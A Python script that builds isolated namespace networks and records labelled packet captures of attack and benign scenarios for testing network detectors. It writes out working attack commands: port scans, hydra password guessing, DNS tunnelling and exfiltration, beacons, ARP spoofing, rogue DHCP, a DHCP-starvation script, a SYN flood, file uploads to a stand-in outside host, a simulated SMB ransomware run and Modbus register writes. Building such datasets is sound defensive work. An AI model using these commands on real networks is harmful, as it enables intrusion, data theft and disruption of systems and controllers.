#!/usr/bin/python3
"""Record the captures of lab-1: real programs in network namespaces, one small network for each scenario.

    sudo ./record.py [SCENARIO...]

Debian packages: dnsmasq-base nmap hping3 hydra vsftpd openssh-server nginx-light samba smbclient iodine curl openssl
bind9-dnsutils dsniff sshpass python3-pymodbus python3-serial-asyncio udhcpc iperf3 snmp snmpd tcpdump zstd iproute2.

Nothing leaves the namespaces. In a scenario's network a hub joins client, server, other, attacker and gateway, and hears
everything; behind the gateway lies outside. Each scenario is a function below, with what is to be found in it. Captures and
labels.tsv are written beside this file; both are CC0-1.0.
"""

import concurrent.futures
import hashlib
import ipaddress
import os
import pathlib
import random
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import time

HERE = pathlib.Path(__file__).resolve().parent
PARALLEL = 6
HOSTS = {"gateway": 1, "client": 10, "desk": 11, "server": 20, "other": 21, "attacker": 66}
OUTSIDE = "198.51.100.10"
SCENARIOS = []


def scenario(technique="", family="", snap=0, name=None, tags=""):
    """technique "" means that nothing is to be found, tags say which detectors of it are meant (../README.md). snap cuts packets, where
    only their number and length matter."""
    def add(f):
        SCENARIOS.append((name or f.__name__.replace("_", "-"), technique, family, tags, snap, f))
        return f
    return add


class Lab:
    """One network. A context: at its end everything in it is gone."""

    def __init__(self, name, number):
        self.name, self.ns, self.started, self.number = name, f"lab{number}", [], number
        self.dir = pathlib.Path(tempfile.mkdtemp(prefix="lab-"))
        os.chmod(self.dir, 0o755)
        self.random = random.Random(name)

    def __enter__(self):
        for host in [*HOSTS, "outside", "hub"]:
            self.sh(f"ip netns add {self.ns}-{host}; ip -n {self.ns}-{host} link set lo up")
        self.sh(f"ip -n {self.ns}-hub link add br0 type bridge ageing_time 0; ip -n {self.ns}-hub link set br0 up")
        for host, last in HOSTS.items():
            self.wire(host, last)
            self.sh(f"ip -n {self.ns}-{host} addr add 10.66.0.{last}/24 dev eth0; "
                    f"ip -n {self.ns}-{host} addr add fd66::{last}/64 dev eth0 nodad")
            if host != "gateway":
                self.sh(f"ip -n {self.ns}-{host} route add default via 10.66.0.1")
        a, b = f"{self.ns}-gateway", f"{self.ns}-outside"
        self.sh(f"ip -n {a} link add eth1 type veth peer name eth0 netns {b}; ip -n {a} link set eth1 up; ip -n {b} link set eth0 up; "
                f"ip -n {a} addr add 198.51.100.1/24 dev eth1; ip -n {b} addr add {OUTSIDE}/24 dev eth0; ip -n {b} route add default via 198.51.100.1; "
                f"ip netns exec {a} sysctl -qw net.ipv4.ip_forward=1")
        for n in range(32, 62):  # more machines outside
            self.sh(f"ip -n {b} addr add 198.51.100.{n}/24 dev eth0")
        return self

    def wire(self, host, last):
        hub, end = f"{self.ns}-hub", f"{self.ns}-{host}"
        self.sh(f"ip -n {hub} link add p{last} type veth peer name eth0 netns {end}; ip -n {hub} link set p{last} master br0; ip -n {hub} link set p{last} up; "
                f"ip -n {end} link set eth0 address 02:66:00:00:00:{last:02x}; ip -n {end} link set eth0 up")

    def __exit__(self, *_):
        for p in reversed(self.started):
            self.stop(p)
        for host in [*HOSTS, "outside", "hub"]:
            subprocess.run(f"ip netns pids {self.ns}-{host} | xargs -r kill -9; ip netns del {self.ns}-{host}", shell=True, capture_output=True)
        shutil.rmtree(self.dir, ignore_errors=True)

    def sh(self, command):
        subprocess.run(command, shell=True, check=True)

    def run(self, host, command, timeout=300, env=None):
        """Run a command line on a host and wait. What it prints and returns is its own affair."""
        p = self.start(host, command, env)
        try:
            p.wait(timeout)
        except subprocess.TimeoutExpired:
            pass
        self.stop(p)

    def start(self, host, command, env=None):
        p = subprocess.Popen(["ip", "netns", "exec", f"{self.ns}-{host}", "sh", "-c", command], cwd=self.dir, start_new_session=True,
                             stdin=subprocess.DEVNULL, stdout=open(self.dir / "out.log", "ab"), stderr=subprocess.STDOUT, env={**os.environ, **(env or {})})
        self.started.append(p)
        return p

    def stop(self, p):
        for sig in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.killpg(p.pid, sig)
                p.wait(3)
            except (ProcessLookupError, subprocess.TimeoutExpired):
                continue
        if p in self.started:
            self.started.remove(p)

    def file(self, name, content, mode=0o644):
        path = self.dir / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        path.chmod(mode)
        return path

    def pause(self, mean, spread=0.3):
        time.sleep(mean * self.random.uniform(1 - spread, 1 + spread))

    # --- servers ---

    def dns(self, host="gateway", extra=""):
        self.start(host, "dnsmasq --keep-in-foreground --conf-file=/dev/null --pid-file= --user=root --no-resolv --no-hosts --bind-interfaces --cache-size=0 "
                         f"--address=/example.net/{OUTSIDE} --address=/example.org/{OUTSIDE} --local=/#/ {extra}")
        time.sleep(0.5)

    def web(self, host, login=False, tls=False):
        self.sh(f"mkdir -p {self.dir}/www {self.dir}/put; chmod 777 {self.dir}/put")
        for n in range(8):
            self.file(f"www/page{n}.html", "<html>" + "words and more words " * self.random.randint(20, 400) + "</html>")
        self.file("passwd", "admin:" + subprocess.check_output(["openssl", "passwd", "-apr1", "correct horse"], text=True))
        self.sh(f"openssl req -x509 -newkey rsa:2048 -nodes -days 300 -subj /CN=www.example.net -keyout {self.dir}/key.pem -out {self.dir}/cert.pem 2>/dev/null")
        auth = f'auth_basic "staff"; auth_basic_user_file {self.dir}/passwd;' if login else ""
        listen = f"listen 443 ssl; ssl_certificate {self.dir}/cert.pem; ssl_certificate_key {self.dir}/key.pem;" if tls else "listen 80;"
        self.file(f"nginx-{host}.conf", f"""daemon off; user root; pid {self.dir}/nginx-{host}.pid; error_log {self.dir}/nginx.log; events {{}}
http {{ access_log off; client_body_temp_path {self.dir}/body; client_max_body_size 500m; proxy_temp_path {self.dir}/t1; fastcgi_temp_path {self.dir}/t2; uwsgi_temp_path {self.dir}/t3; scgi_temp_path {self.dir}/t4;
server {{ {listen} root {self.dir}/www; {auth} location /put/ {{ root {self.dir}; client_body_in_file_only off; return 204; }} location /task {{ return 200 "idle"; }} }} }}""")
        self.start(host, f"nginx -e {self.dir}/nginx.log -c {self.dir}/nginx-{host}.conf")
        time.sleep(0.5)

    def ssh(self, host):
        self.sh(f"ssh-keygen -q -t ed25519 -N '' -f {self.dir}/hostkey; ssh-keygen -q -t ed25519 -N '' -f {self.dir}/id; cp {self.dir}/id.pub {self.dir}/authorized; mkdir -p /run/sshd")
        self.file("sshd.conf", f"""Port 22\nHostKey {self.dir}/hostkey\nPidFile none\nStrictModes no\nUsePAM no\nPasswordAuthentication yes\nMaxStartups 50
PermitRootLogin yes\nAuthorizedKeysFile {self.dir}/authorized\nSubsystem sftp internal-sftp\n""")
        self.start(host, f"/usr/sbin/sshd -D -e -f {self.dir}/sshd.conf")
        time.sleep(0.5)
        self.login = f"-i {self.dir}/id -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"

    def ftp(self, host):
        self.sh(f"mkdir -p {self.dir}/empty")
        self.file("vsftpd.conf", f"listen=YES\nbackground=NO\nlocal_enable=YES\nanonymous_enable=YES\nno_anon_password=YES\nanon_root={self.dir}/empty\nsecure_chroot_dir={self.dir}/empty\nseccomp_sandbox=NO\nmax_login_fails=3\ndelay_failed_login=0\nlisten_port=21\nrun_as_launching_user=YES\n")
        self.start(host, f"vsftpd {self.dir}/vsftpd.conf")
        time.sleep(0.5)

    def smb(self, host, shares=("files",)):
        text = f"[global]\nserver role = standalone\nmap to guest = Bad User\nguest account = root\nlog level = 0\nload printers = no\ndisable spoolss = yes\n"
        for d in ("private", "lock", "state", "cache", "pid", "ncalrpc", "share"):
            self.sh(f"mkdir -p {self.dir}/{d}")
        text += "".join(f"{k} = {self.dir}/{v}\n" for k, v in {"private dir": "private", "lock directory": "lock", "state directory": "state", "cache directory": "cache", "pid directory": "pid", "ncalrpc dir": "ncalrpc"}.items())
        for s in shares:
            text += f"[{s}]\npath = {self.dir}/share\nguest ok = yes\nread only = no\nforce user = root\n"
        self.file("smb.conf", text)
        self.sh(f"printf 'letmein\\nletmein\\n' | smbpasswd -c {self.dir}/smb.conf -s -a root >/dev/null 2>&1 || true")
        self.start(host, f"smbd --foreground --debug-stdout --debuglevel=0 --log-basename={self.dir} --configfile={self.dir}/smb.conf")
        time.sleep(1)

    def modbus(self, host):
        self.file("plc.py", """
from pymodbus.datastore import ModbusSequentialDataBlock, ModbusServerContext, ModbusSlaveContext
from pymodbus.server import StartTcpServer
block = lambda: ModbusSequentialDataBlock(0, [7] * 200)
StartTcpServer(context=ModbusServerContext(slaves=ModbusSlaveContext(di=block(), co=block(), hr=block(), ir=block()), single=True), address=("10.66.0.20", 502))
""")
        self.file("master.py", """
import sys, time
from pymodbus.client import ModbusTcpClient
c = ModbusTcpClient("10.66.0.20", port=502)
c.connect()
for n in range(int(sys.argv[1])):
    c.read_holding_registers(10, 8, slave=1); c.read_coils(0, 16, slave=1)
    time.sleep(float(sys.argv[2]))
c.close()
""")
        self.start(host, f"/usr/bin/python3 {self.dir}/plc.py")
        time.sleep(2)

    def dhcp(self, client, mac=None):
        """One machine asks for an address, as at boot."""
        if mac:
            self.sh(f"ip -n {self.ns}-{client} link set eth0 down; ip -n {self.ns}-{client} link set eth0 address {mac}; ip -n {self.ns}-{client} link set eth0 up")
        self.run(client, "udhcpc -f -q -n -t 3 -T 1 -s /bin/true -i eth0", 12)


# --- scans ---

@scenario("T1046", "nmap")
def scan_syn(lab):
    lab.web("server")
    lab.run("attacker", "nmap -n -sS -p 1-1000 -T4 10.66.0.20")


@scenario("T1046", "nmap")
def scan_connect(lab):
    lab.ssh("server")
    lab.run("attacker", "nmap -n -sT -F 10.66.0.20")


@scenario("T1046", "nmap")
def scan_udp(lab):
    lab.run("attacker", "nmap -n -sU --top-ports 80 --min-rate 20 --max-retries 1 10.66.0.20", 60)


@scenario("T1046", "nmap")
def scan_xmas(lab):
    lab.run("attacker", "nmap -n -sX -F 10.66.0.20")


@scenario("T1046", "nmap")
def scan_ipv6(lab):
    lab.run("attacker", "nmap -n -6 -sS -F fd66::20")


@scenario("T1046", "nmap")
def scan_slow(lab):
    lab.run("attacker", "nmap -n -Pn -sS -p 20-60 --max-retries 0 --scan-delay 2500ms 10.66.0.20", 140)


@scenario("T1046", "nmap")
def scan_horizontal(lab):
    lab.run("attacker", "nmap -n -Pn -sS -p 23 198.51.100.32-61")


@scenario("T1018", "nmap")
def sweep_ping(lab):
    lab.run("attacker", "nmap -n -sn -PE --disable-arp-ping 198.51.100.30-70")


@scenario("T1046", "hping3")
def scan_hping(lab):
    lab.run("attacker", "hping3 --scan 1-400 -S 10.66.0.20", 60)


# --- passwords ---

def words(lab, n):
    return lab.file("words", "\n".join(f"Winter{2000 + i}!" for i in range(n)) + "\n")


@scenario("T1110", "hydra", tags="guessing")
def guess_ssh(lab):
    lab.ssh("server")
    lab.run("attacker", f"hydra -I -l deploy -P {words(lab, 60)} -t 4 ssh://10.66.0.20", 120)


@scenario("T1110", "hydra", tags="guessing")
def guess_ftp(lab):
    lab.ftp("server")
    lab.run("attacker", f"hydra -I -l backup -P {words(lab, 60)} -t 4 ftp://10.66.0.20", 120)


@scenario("T1110", "hydra", tags="guessing")
def guess_http(lab):
    lab.web("server", login=True)
    lab.run("attacker", f"hydra -I -l admin -P {words(lab, 80)} -t 4 http-get://10.66.0.20/", 120)


@scenario("T1110", "smbclient", tags="guessing")
def guess_smb(lab):
    lab.smb("server")
    for n in range(40):
        lab.run("attacker", f"smbclient -s {lab.dir}/smb.conf -U root%wrong{n} //10.66.0.20/files -c ls", 10)


@scenario("T1110.003", "hydra")
def spray_ssh(lab):
    lab.ssh("server")
    users = lab.file("users", "\n".join(f"user{i}" for i in range(40)) + "\n")
    lab.run("attacker", f"hydra -I -L {users} -p Summer2026 -t 4 ssh://10.66.0.20", 120)


# --- tunnels, names, command and control ---

def iodine(lab, kind):
    lab.start("outside", f"iodined -f -c -P secret -d dns1 10.99.0.1/24 tunnel.example.com")
    time.sleep(1)
    lab.start("client", f"iodine -f -r -P secret -d dns0 -T{kind} {OUTSIDE} tunnel.example.com")
    time.sleep(8)
    lab.run("client", "ping -c 15 -i 0.3 -s 400 10.99.0.1", 15)
    lab.pause(3)


@scenario("T1071.004", "iodine", tags="dns tunnel")
def tunnel_iodine_null(lab):
    iodine(lab, "NULL")


@scenario("T1071.004", "iodine", tags="dns tunnel")
def tunnel_iodine_txt(lab):
    iodine(lab, "TXT")


@scenario("T1048.003", "names-loop", tags="dns tunnel")
def exfil_dns_names(lab):
    lab.dns("gateway")
    for n in range(90):
        chunk = "".join(lab.random.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(48))
        lab.run("client", f"dig +tries=1 +time=1 @10.66.0.1 {chunk[:24]}.{chunk[24:]}.{n}.data.example.com A", 5)
        lab.pause(0.3)


@scenario("T1095", "hping3", tags="tunnel")
def tunnel_ping(lab):
    secret = lab.file("secret", bytes(lab.random.randrange(256) for _ in range(90_000)))
    lab.run("client", f"hping3 --icmp -d 600 -E {secret} -i u200000 -c 150 {OUTSIDE}", 60)


@scenario("T1568.002", "generated-names")
def dga(lab):
    lab.dns("gateway")
    seed = 0x2A6D365A
    for _ in range(70):
        name = ""
        for _ in range(10 + seed % 7):
            seed = (seed * 1664525 + 1013904223) & 0xFFFFFFFF
            name += chr(97 + (seed >> 16) % 26)
        lab.run("client", f"dig +tries=1 +time=1 @10.66.0.1 {name}.{('com', 'net', 'info', 'biz')[seed >> 8 & 3]}", 5)
        lab.pause(0.6)


@scenario("T1071.001", "curl-implant", tags="beacon")
def beacon_http(lab):
    lab.web("outside")
    for n in range(45):
        lab.run("client", f"curl -s -A agent/1.0 -d id={n % 3}7f3 http://{OUTSIDE}/task", 10)
        lab.pause(4, 0.2)


@scenario("T1071.001", "curl-implant", tags="beacon")
def beacon_tls(lab):
    lab.web("outside", tls=True)
    for _ in range(40):
        lab.run("client", f"curl -sk https://{OUTSIDE}/task", 10)
        lab.pause(5, 0.05)


@scenario("T1071", "socket-implant", tags="beacon")
def beacon_tcp(lab):
    lab.file("listen.py", "import socket\ns = socket.create_server(('', 4444))\nwhile True:\n    c, _ = s.accept(); c.recv(100); c.send(b'nothing'); c.close()\n")
    lab.start("outside", f"/usr/bin/python3 {lab.dir}/listen.py")
    lab.file("call.py", f"import socket\nc = socket.create_connection(('{OUTSIDE}', 4444)); c.send(b'hello from here'); c.recv(100)\n")
    time.sleep(1)
    for _ in range(40):
        lab.run("desk", f"/usr/bin/python3 {lab.dir}/call.py", 10)
        lab.pause(4, 0.3)


# --- the local network ---

@scenario("T1557.002", "arpspoof")
def arp_poison(lab):
    lab.web("outside")
    lab.sh(f"ip netns exec {lab.ns}-attacker sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.eth0.send_redirects=0")
    lab.run("client", "ping -c 3 10.66.0.1", 10)
    lab.start("attacker", "arpspoof -i eth0 -t 10.66.0.10 10.66.0.1")
    lab.start("attacker", "arpspoof -i eth0 -t 10.66.0.1 10.66.0.10")
    for n in range(8):
        lab.run("client", f"curl -s http://{OUTSIDE}/page{n}.html", 10)
        lab.pause(3)


RANGE = "--dhcp-range=10.66.0.{0},10.66.0.{1},255.255.255.0,10m --dhcp-authoritative --dhcp-leasefile={2}/{3}.leases "


@scenario("T1557.003", "dnsmasq")
def rogue_dhcp(lab):
    lab.dns("gateway", RANGE.format(100, 150, lab.dir, "gateway"))
    for n in range(4):
        lab.dhcp("client", f"02:66:00:00:01:{n:02x}")
        lab.pause(1)
    lab.dns("attacker", RANGE.format(160, 190, lab.dir, "attacker") + "--dhcp-option=3,10.66.0.66 --dhcp-option=6,10.66.0.66")
    for n in range(6):
        lab.dhcp("client", f"02:66:00:00:02:{n:02x}")
        lab.pause(1)


@scenario("T1557", "dnsmasq")
def rogue_router(lab):
    ra = "--enable-ra --ra-param=eth0,{0},{1} --dhcp-range={2},ra-only,64,10m "
    lab.dns("gateway", ra.format("low,4", 1800, "fd66::"))
    time.sleep(10)
    lab.dns("attacker", ra.format("high,4", 1800, "fdbb::") + "")
    lab.sh(f"ip -n {lab.ns}-attacker addr add fdbb::66/64 dev eth0 nodad")
    for _ in range(6):
        lab.run("desk", "ping -c 1 fd66::1", 5)
        lab.pause(4)


@scenario("T1499", "discover-loop", tags="layer-2")
def dhcp_starvation(lab):
    lab.dns("gateway", RANGE.format(100, 150, lab.dir, "gateway"))
    lab.file("starve.py", """
import random, socket, struct
r = random.Random(1)
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(("eth0", 0))
for n in range(250):
    mac = bytes([2] + [r.randrange(256) for _ in range(5)])
    bootp = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 1, 1, 6, 0, r.getrandbits(32), 0, 0x8000, *[b"\\0" * 4] * 4, mac, b"", b"") + b"\\x63\\x82\\x53\\x63\\x35\\x01\\x01\\x37\\x03\\x01\\x03\\x06\\xff"
    udp = struct.pack("!HHHH", 68, 67, 8 + len(bootp), 0) + bootp
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), n, 0, 64, 17, 0, b"\\0" * 4, b"\\xff" * 4)
    total = sum(struct.unpack("!10H", ip)); total = (total & 0xffff) + (total >> 16)
    ip = ip[:10] + struct.pack("!H", ~total & 0xffff) + ip[12:]
    s.send(b"\\xff" * 6 + mac + b"\\x08\\x00" + ip + udp)
    __import__("time").sleep(0.04)
""")
    lab.run("attacker", f"/usr/bin/python3 {lab.dir}/starve.py", 60)


@scenario("T1499", "hping3", tags="denial-of-service")
def flood_syn(lab):
    lab.web("server")
    lab.run("attacker", "hping3 -q -S -p 80 --rand-source -i u2000 -c 2500 10.66.0.20", 30)


# --- files ---

def bulk(lab, name, megabytes):
    return lab.file(name, os.urandom(1 << 20) * megabytes)


@scenario("T1048", "scp", snap=96, tags="upload")
def exfil_scp(lab):
    lab.ssh("outside")
    path = bulk(lab, "customers.tar", 60)
    for n in range(3):
        lab.run("client", f"scp {lab.login} {path} root@{OUTSIDE}:{lab.dir}/stolen{n}", 60)
        lab.pause(2)


@scenario("T1048.003", "curl-upload", snap=96, tags="upload")
def exfil_http(lab):
    lab.web("outside")
    path = bulk(lab, "customers.zip", 80)
    for n in range(3):
        lab.run("desk", f"curl -s -T {path} http://{OUTSIDE}/put/{n}", 60)
        lab.pause(2)


@scenario("T1486", "smbclient", snap=400)
def ransom_smb(lab):
    lab.smb("server")
    for n in range(150):
        lab.file(f"share/report-{n}.docx", os.urandom(2000))
    blob = lab.file("blob", os.urandom(2100))
    script = "".join(f"get report-{n}.docx {lab.dir}/x; put {blob} report-{n}.docx; rename report-{n}.docx report-{n}.docx.locked; " for n in range(150))
    commands = lab.file("commands", f"smbclient -s {lab.dir}/smb.conf -N //10.66.0.20/files -c '{script}put {blob} HOW_TO_DECRYPT.txt'\n")
    lab.run("client", f"sh {commands}", 60)


@scenario("T1021.002", "smbclient")
def admin_share(lab):
    lab.smb("server", ("ADMIN$", "C$"))
    tool = lab.file("svc.exe", b"MZ" + os.urandom(30_000))
    lab.run("attacker", f"smbclient -s {lab.dir}/smb.conf -U root%letmein '//10.66.0.20/ADMIN$' -c 'put {tool} svchelper.exe; ls'", 20)
    lab.run("attacker", f"rpcclient -s {lab.dir}/smb.conf -U root%letmein 10.66.0.20 -c 'enumdomusers'", 20)


# --- controllers ---

@scenario("T0855", "pymodbus")
def modbus_writer(lab):
    lab.modbus("server")
    lab.start("other", f"/usr/bin/python3 {lab.dir}/master.py 60 1")
    time.sleep(20)
    lab.file("write.py", """
import time
from pymodbus.client import ModbusTcpClient
c = ModbusTcpClient("10.66.0.20", port=502)
c.connect()
for n in range(12):
    c.write_register(10 + n % 4, 4000 + n, slave=1); c.write_coil(n % 8, True, slave=1); time.sleep(1)
c.close()
""")
    lab.run("attacker", f"/usr/bin/python3 {lab.dir}/write.py", 40)
    time.sleep(8)


# --- nothing to be found ---

@scenario(family="web")
def quiet_web(lab):
    lab.dns("gateway")
    lab.web("outside")
    for _ in range(60):
        host = lab.random.choice(["client", "desk"])
        lab.run(host, f"curl -s --resolve www.example.net:80:{OUTSIDE} http://www.example.net/page{lab.random.randrange(8)}.html", 10)
        lab.run(host, f"dig +tries=1 +time=1 @10.66.0.1 {lab.random.choice(['www', 'img', 'api', 'mail', 'cdn'])}.example.net", 5)
        time.sleep(min(12, lab.random.expovariate(1 / 2.5)))


@scenario(family="web", snap=300)
def quiet_tls_download(lab):
    lab.web("outside", tls=True)
    lab.file("www/update.deb", os.urandom(1 << 20) * 8)
    for n in range(6):
        lab.run("client", f"curl -sk -o /dev/null https://{OUTSIDE}/update.deb", 60)
        time.sleep(lab.random.uniform(1, 15))


@scenario(family="ssh")
def quiet_ssh(lab):
    lab.ssh("server")
    small = bulk(lab, "notes", 1)
    for n in range(12):
        lab.run("client", f"ssh {lab.login} root@10.66.0.20 'uptime; ls /etc | head -{n + 3}'", 20)
        if n % 4 == 0:
            lab.run("client", f"scp {lab.login} /etc/services root@10.66.0.20:{lab.dir}/copy", 20)
        time.sleep(min(20, lab.random.expovariate(1 / 6)))


@scenario(family="backup", snap=96)
def quiet_backup_inside(lab):
    lab.ssh("server")
    path = bulk(lab, "backup.tar", 60)
    for n in range(2):
        lab.run("client", f"scp {lab.login} {path} root@10.66.0.20:{lab.dir}/night{n}", 60)
        lab.pause(10)


@scenario(family="smb", snap=400)
def quiet_smb(lab):
    lab.smb("server")
    for n in range(30):
        lab.file(f"share/letter-{n}.docx", os.urandom(4000))
    for n in range(20):
        what = lab.random.choice([f"get letter-{n}.docx {lab.dir}/x", "ls", f"put {lab.dir}/smb.conf note-{n}.txt", f"rename letter-{n}.docx letter-{n}-old.docx"])
        lab.run("client", f"smbclient -s {lab.dir}/smb.conf -N //10.66.0.20/files -c '{what}'", 10)
        time.sleep(min(15, lab.random.expovariate(1 / 4)))


@scenario(family="login")
def quiet_mistyped(lab):
    lab.web("server", login=True)
    for n in range(14):
        password = "correct%20horse" if n % 4 else "corect%20horse"
        lab.run("client", f"curl -s http://admin:{password}@10.66.0.20/page1.html", 10)
        time.sleep(min(20, lab.random.expovariate(1 / 6)))


@scenario(family="dhcp")
def quiet_dhcp(lab):
    lab.dns("gateway", RANGE.format(100, 150, lab.dir, "gateway"))
    for n in range(10):
        lab.dhcp(lab.random.choice(["client", "desk"]), f"02:66:00:00:03:{n:02x}")
        lab.pause(5)


@scenario(family="modbus")
def quiet_modbus(lab):
    lab.modbus("server")
    lab.run("other", f"/usr/bin/python3 {lab.dir}/master.py 90 1", 120)


@scenario(family="monitoring")
def quiet_monitoring(lab):
    lab.web("server")
    lab.file("snmpd.conf", "agentaddress udp:161\nrocommunity watch 10.66.0.0/24\n")
    lab.start("other", f"snmpd -f -Lo -C -c {lab.dir}/snmpd.conf -p {lab.dir}/snmpd.pid")
    lab.start("gateway", "ping -i 1 10.66.0.20")
    for n in range(14):
        lab.run("gateway", "snmpwalk -v2c -c watch 10.66.0.21 1.3.6.1.2.1.1", 10)
        lab.run("gateway", "curl -s http://10.66.0.20/page2.html", 10)
        time.sleep(10)


@scenario(family="throughput", snap=96)
def quiet_iperf(lab):
    lab.start("server", "iperf3 -s")
    time.sleep(1)
    lab.run("client", "iperf3 -c 10.66.0.20 -t 5 -b 200M", 30)
    lab.run("client", "iperf3 -u -c 10.66.0.20 -t 5 -b 5M", 30)


@scenario(family="names")
def quiet_names(lab):
    lab.dns("gateway")
    names = ["www.example.net", "e4578.dscb.akamaiedge.example.net", "a1-23-45-67.deploy.static.example.org", "_ldap._tcp.dc._msdcs.example.net",
             "20.0.66.10.in-addr.arpa", "d36ufq1ap5wy15.cloudfront.example.net", "imap.example.org", "time.example.org", "no-such-host.example.net"]
    for _ in range(120):
        name = lab.random.choice(names)
        lab.run(lab.random.choice(["client", "desk"]), f"dig +tries=1 +time=1 @10.66.0.1 {name} {lab.random.choice(['A', 'AAAA', 'MX', 'TXT', 'SRV'])}", 5)
        time.sleep(min(5, lab.random.expovariate(1 / 1.2)))


# --- recording ---

def record(number, name, technique, family, tags, snap, play):
    out = HERE / f"{name}.pcap.zst"
    with Lab(name, number) as lab:
        dump = lab.dir / "capture.pcap"
        tap = lab.start("hub", f"exec tcpdump -Z root -q -n -i br0 -s {snap} -U -w {dump} 2>/dev/null")
        # The bridge floods everything to every port and to itself: it hears all in promiscuous mode.
        lab.sh(f"ip -n {lab.ns}-hub link set br0 promisc on")
        while not dump.exists() or dump.stat().st_size < 24:
            time.sleep(0.05)
        began = time.time()
        play(lab)
        time.sleep(1)
        seconds = time.time() - began
        lab.stop(tap)
        raw = dump.read_bytes()
        if len(raw) < 1000:
            raise RuntimeError(f"{name}: nothing was captured: {(lab.dir / 'out.log').read_text()[-800:]}")
        subprocess.run(["zstd", "-q", "-f", "-19", str(dump), "-o", str(out)], check=True)
        log = (lab.dir / "out.log").read_text(errors="replace")
    digest = hashlib.sha256(out.read_bytes()).hexdigest()
    print(f"{name:24} {seconds:6.1f} s {len(raw):9} octets, {out.stat().st_size:8} packed", flush=True)
    if os.environ.get("LAB_LOG"):
        print(log[-3000:], flush=True)
    return [out.name, "lab-1", technique, f"{seconds:.1f}", "https://github.com/picketwatch/picket", digest, family, tags]


def main():
    wanted = sys.argv[1:]
    labels, recorded = HERE / "labels.tsv", {}
    todo = [(n, *s) for n, s in enumerate(SCENARIOS) if not wanted or s[0] in wanted]
    failed = False
    with concurrent.futures.ThreadPoolExecutor(PARALLEL) as pool:
        for done in [pool.submit(record, *s) for s in todo]:
            try:
                row = done.result()
                recorded[row[0]] = row
            except Exception as err:  # the others go on
                failed = True
                print("failed:", err, file=sys.stderr, flush=True)
    known = {}
    if labels.exists():
        known = {line.split("\t")[0]: line.split("\t") for line in labels.read_text().splitlines()[1:]}
    known.update(recorded)
    order = [f"{s[0]}.pcap.zst" for s in SCENARIOS]
    rows = [known[name] for name in order if name in known]
    labels.write_text("\n".join("\t".join(r) for r in [["file", "dataset", "technique", "seconds", "source", "sha256", "family", "tags"], *rows]) + "\n")
    sys.exit(failed)


main()
